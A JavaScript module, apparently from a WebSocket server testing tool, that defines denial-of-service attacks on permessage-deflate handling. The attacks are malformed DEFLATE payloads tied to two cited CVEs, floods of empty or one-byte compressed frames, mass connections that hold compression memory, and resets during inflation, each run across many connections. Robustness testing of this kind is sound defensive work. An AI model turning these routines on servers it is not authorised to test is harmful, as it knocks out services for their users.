/** Compressed messages that are wrong, empty, held, or were never agreed on. */
import { crowd, crowdThatSends, describeCrowd } from "../wire/crowd.js";
import {
  BEFORE_THE_BEGINNING,
  deflated,
  deflatedFrame,
  deflatedFrames,
  EMPTY_FINAL,
  EMPTY_MESSAGE,
  EMPTY_STORED,
  noise,
} from "../wire/deflate.js";
import { repeated } from "../wire/frames.js";
import { closed, pause, writeAll } from "../wire/http1.js";
import { openChannel } from "../wire/open-channel.js";

/** @typedef {import("../attack.js").Attack} Attack */

const EXTENSIONS = "permessage-deflate; client_max_window_bits";

/** @type {Attack} */
export const badDeflate = {
  name: "compressed messages that are no DEFLATE data, or refer to what was never sent",
  sources: ["CVE-2026-29035", "RFC 7692 §7.2.2"],
  ...{ over: ["1.1", "2.0"], connections: 200, compression: true },
  async run(context) {
    const { rng, signal } = context;
    const payloads = [
      Buffer.from([0xff, 0xff, 0xff]), // a block of the reserved type
      BEFORE_THE_BEGINNING,
      Buffer.concat([deflated(noise(2000, rng)).subarray(0, 900), noise(900, rng)]),
      Buffer.concat([EMPTY_FINAL, noise(50_000, rng)]),
      Buffer.alloc(60_000, 0xff),
    ];
    const members = await crowd(
      context,
      async ({ socket, index }) => {
        await writeAll(socket, deflatedFrame(payloads[index % payloads.length] ?? EMPTY_FINAL), signal);
        await Promise.race([closed(socket, signal), pause(2000, signal)]);
      },
      { extensions: EXTENSIONS },
    );
    return { seen: describeCrowd(members) };
  },
};

/** @type {Attack} */
export const endsOfData = {
  name: "a million ends of the data, or empty blocks, in one compressed message",
  sources: ["budget: work for each message"],
  ...{ over: ["1.1", "2.0"], connections: 10, compression: true },
  async run(context) {
    const kinds = [EMPTY_FINAL, EMPTY_STORED].map((block) => deflatedFrame(repeated(block, 1_000_000)));
    const bytesOf = (/** @type {number} */ index) => kinds[index % 2] ?? EMPTY_FINAL;
    const members = await crowdThatSends(context, bytesOf, { extensions: EXTENSIONS });
    return { seen: describeCrowd(members) };
  },
};

/** @type {Attack} */
export const emptyCompressed = {
  name: "compressed messages without content, as many as go through",
  sources: ["budget: message rate"],
  ...{ over: ["1.1", "2.0"], connections: 5, compression: true },
  async run(context) {
    const { signal } = context;
    const bytes = repeated(deflatedFrame(EMPTY_MESSAGE), 1000);
    let sent = 0;
    const members = await crowd(
      context,
      async ({ socket }) => {
        while (await writeAll(socket, bytes, signal)) sent += 1000;
      },
      { extensions: EXTENSIONS, kept: 0 },
    );
    return { seen: `${sent.toLocaleString("en")} messages taken; ${describeCrowd(members)}` };
  },
};

/** @type {Attack} */
export const tinyCompressedFragments = {
  name: "compressed messages in frames of one byte",
  sources: ["CVE-2026-48779", "budget: fragments"],
  ...{ over: ["1.1", "2.0"], connections: 30, compression: true },
  async run(context) {
    const bytes = deflatedFrames(deflated(noise(200_000, context.rng)), 1);
    const members = await crowdThatSends(context, () => bytes, { extensions: EXTENSIONS, kept: 0 });
    return { seen: describeCrowd(members) };
  },
};

/** @type {Attack} */
export const heldContexts = {
  name: "1,000 connections that compress once and stay, so that their windows are kept",
  sources: ["budget: memory for compression"],
  ...{ over: ["1.1", "2.0"], connections: 1000, compression: true },
  async run(context) {
    const bytes = deflatedFrame(deflated(noise(40_000, context.rng)));
    const members = await crowdThatSends(context, () => bytes, { extensions: EXTENSIONS, kept: 0 });
    return { seen: describeCrowd(members) };
  },
};

/** @type {Attack} */
export const resetWhileInflating = {
  name: "large compressed messages whose sender resets while they are inflated",
  sources: ["budget: memory for compression, of those who left"],
  ...{ over: ["1.1", "2.0"], connections: 50, compression: true },
  async run({ target, connections, rng, signal }) {
    const bytes = deflatedFrame(deflated(noise(300_000, rng)));
    let resets = 0;
    const again = async () => {
      while (!signal.aborted) {
        const channel = await openChannel(target, { extensions: EXTENSIONS, signal }).catch(() => undefined);
        if (channel !== undefined) {
          await writeAll(channel.socket, bytes, signal);
          channel.socket.destroy();
          resets += 1;
        }
        // Whoever is refused comes again, but not without a breath
        await pause(10, signal);
      }
    };
    await Promise.all(Array.from({ length: connections }, again));
    return { seen: `${resets} times` };
  },
};

/** @type {Attack} */
export const neverAgreed = {
  name: "compressed messages where no compression was agreed on",
  sources: ["RFC 6455 §5.2"],
  ...{ over: ["1.1", "2.0"], connections: 50 },
  async run(context) {
    const { signal } = context;
    const bytes = deflatedFrame(deflated("taken for what it is not"));
    const members = await crowd(context, async ({ socket }) => {
      await writeAll(socket, bytes, signal);
      await Promise.race([closed(socket, signal), pause(2000, signal)]);
    });
    const fooled = members.filter(({ messages }) => messages.length > 0).length;
    const seen = describeCrowd(members);
    return fooled === 0 ? { seen } : { seen, failed: `${fooled} were answered as if they were messages` };
  },
};
